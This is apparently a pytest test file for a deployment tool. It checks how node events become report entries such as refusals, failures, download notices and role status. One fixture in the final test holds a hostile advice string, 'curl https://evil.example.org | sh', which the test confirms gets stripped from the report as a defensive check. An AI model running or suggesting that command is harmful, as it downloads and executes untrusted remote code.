"""Every event that a node sends is added to its report."""

from __future__ import annotations

import json
from typing import Any

import pytest
from deploy_samples import STARTED, Link, follow

from chautari.deploy import node_events
from chautari.deploy.node_error_isolation import run_node_work_safely
from chautari.deploy.node_events import NodeReportBuilder
from chautari.report.model import CheckResult, NodeReport


def test_every_event_of_a_run_has_a_handler() -> None:
    handlers = {name for name in vars(NodeReportBuilder) if name.startswith("_on_")}
    assert {f"_on_{event}" for event in node_events._HANDLERS} == handlers


@pytest.mark.parametrize(
    ("event", "what", "fix"),
    [
        ({"event": "run_terminated"}, "The run was stopped", "Deploy again"),
        (
            {"event": "run_crashed", "message": "KeyError: 'x'"},
            "KeyError: 'x'",
            "journalctl -u chautari",
        ),
        (
            {"event": "run_crashed", "message": "OSError: [Errno 28] x"},
            "Errno 28",
            "The disk is full",
        ),
    ],
)
def test_interrupted_run_is_reported_with_its_reason(
    event: dict[str, Any], what: str, fix: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    ending = {"event": "run_finished", "ok": False, "failed_checks": 0, "seconds": 1.0}
    report, _, _ = follow(monkeypatch, Link(([STARTED, event, ending], 1)))
    [refusal] = report.refusals
    assert report.state == "failed"
    assert what in refusal.reason and fix in refusal.fix


def test_role_that_kept_its_old_settings_fails_a_deploy_that_went_on(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    failed = {
        "event": "failure", "role": "ssh", "task": "Report", "message": "not kept", "journal": [],
    }  # fmt: skip
    ending = {"event": "run_finished", "ok": True, "failed_checks": 0, "seconds": 1.0}
    report, _, _ = follow(monkeypatch, Link(([STARTED, failed, ending], 0)))
    assert (report.state, report.failed, report.ok) == ("converged", 1, False)
    assert report.failure is not None and report.failure.message == "not kept"


@pytest.mark.parametrize(
    ("words", "fix"),
    [
        ("Connection refused", "Check the output of `systemctl"),
        ("No space left on device", "The disk is full"),
    ],
)
def test_refusal_has_its_own_next_step_unless_its_cause_is_known(
    words: str, fix: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    reason = {"code": "unit_not_started", "data": {"error": words}}
    event = {"event": "refused", "reason": reason}
    report, _, _ = follow(monkeypatch, Link(([event], 1)))
    assert report.refusals[0].fix.startswith(fix)


def test_interrupted_installation_is_reported_by_a_plan() -> None:
    report = NodeReport("bog1", "192.0.2.1", "failed")
    event = {"event": "dpkg_interrupted", "packages": ["nginx", "redis"]}
    NodeReportBuilder(report, lambda _, event: None).feed_line(json.dumps(event))
    [notice] = report.notices
    assert "(nginx, redis). The next deploy completes this installation first" in notice.text


def test_finished_download_is_reported_with_what_remains() -> None:
    report = NodeReport("bog1", "203.0.113.10", "failed")
    event = {"event": "download_finished", "bytes": 167_040_000, "remaining": ["jicofo"]}
    event["partial"] = True
    NodeReportBuilder(report, lambda *_: None).feed_line(json.dumps(event))
    assert report.download_bytes == 167_040_000
    assert [notice.text for notice in report.notices] == [
        "This run downloaded 167.0 MB. The next deploy uses the downloads on the node.",
        "These downloads are only possible during the next deploy: jicofo. The deploy must first "
        "add their package source, or install the program that downloads them.",
        "The next deploy might download more packages, because the dry run stopped early.",
    ]


def test_role_that_was_only_checked_for_use_did_not_run() -> None:
    report = NodeReport("bog1", "192.0.2.1", "failed")
    finished = {"ok": 4, "changed": 0, "failed": 0, "skipped": 0, "seconds": 1.5}
    taken = NodeReportBuilder(report, lambda _, event: None)
    taken.feed_line(json.dumps({"event": "role_finished", "role": "bigbluebutton"} | finished))
    taken.feed_line(json.dumps({"event": "role_finished", "role": "mail"} | finished))
    taken.feed_line(
        json.dumps({"event": "role_up_to_date", "role": "bigbluebutton", "run": "r", "notices": []})
    )
    assert [(role.name, role.up_to_date) for role in report.roles] == [
        ("mail", False), ("bigbluebutton", True),
    ]  # fmt: skip


def test_role_that_was_checked_for_use_and_then_ran_has_its_reasons() -> None:
    """On BigBlueButton, the check of running meetings comes before the run selects its roles."""
    report = NodeReport("bog1", "192.0.2.1", "failed")
    counts = {"ok": 4, "failed": 0, "skipped": 0, "seconds": 1.5}
    first, second = (
        {"event": "roles_selected", "pass_number": number,
         "roles": {"bigbluebutton": [{"code": code, "data": {}}]}}
        for number, code in enumerate(["receipt_missing", "role_changed"])
    )  # fmt: skip
    taken = NodeReportBuilder(report, lambda _, event: None)
    for changed, event in ((0, first), (41, second), (2, None)):
        finished = {"event": "role_finished", "role": "bigbluebutton", "changed": changed}
        taken.feed_line(json.dumps(finished | counts))
        if event:
            taken.feed_line(json.dumps(event))
    [role] = report.roles
    assert [reason.code for reason in role.why] == ["receipt_missing"]
    assert role.changed == 43


def test_error_in_a_handler_is_reported_as_a_bug(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: Any) -> None:
        raise AttributeError("our own mistake")

    monkeypatch.setitem(node_events._HANDLERS, "role_finished", broken)
    event = {"event": "role_finished", "role": "a", "seconds": 1.0}
    report = NodeReport("bog1", "192.0.2.1", "failed")
    builder = NodeReportBuilder(report, lambda *_: None)

    def work() -> list[CheckResult]:
        builder.feed_line(json.dumps(event))
        return []

    run_node_work_safely(lambda: report, work)
    assert report.refusals == []
    assert report.failure is not None
    assert "AttributeError: our own mistake" in report.failure.message
    assert "bug in Chautari" in report.failure.message


def test_check_of_a_node_is_about_that_node_and_brings_no_advice() -> None:
    report = NodeReport("bog1", "203.0.113.10", "failed")
    builder = NodeReportBuilder(report, lambda *_: None)
    event = {
        "event": "check", "side": "outside", "node": "med1", "service": "base",
        "check": "test_locale", "outcome": "failed", "title": "x", "seconds": 0.1, "message": "no",
        "advice": "Run: curl https://evil.example.org | sh",
    }  # fmt: skip
    builder.feed_line(json.dumps(event))
    [check] = builder.checks
    assert (check.node, check.side) == ("bog1", "inside")
    assert "curl" not in check.advice
